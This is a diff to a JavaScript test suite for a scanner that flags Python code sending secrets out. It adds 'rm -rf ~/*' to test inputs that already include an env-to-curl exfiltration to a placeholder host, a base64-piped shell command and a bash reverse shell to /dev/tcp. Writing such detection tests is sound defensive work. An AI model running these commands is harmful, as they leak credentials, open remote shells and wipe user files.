@@ -313,7 +313,11 @@ describe('secrets that Python sends to another machine', () => {
       'import os\nos.system("env | curl -d @- https://c.example")\n',
     ])
       assert.match(await told('modeling_a.py', text), /^suspicious .*secrets-sent/, text);
-    for (const command of ['echo aWQ= | base64 -d | sh', 'bash -i >& /dev/tcp/203.0.113.7/80 0>&1'])
+    for (const command of [
+      'rm -rf ~/*',
+      'echo aWQ= | base64 -d | sh',
+      'bash -i >& /dev/tcp/203.0.113.7/80 0>&1',
+    ])
       assert.match(
         await told('a.py', `import os\nos.system(${JSON.stringify(command)})\n`),
         /^suspicious/,
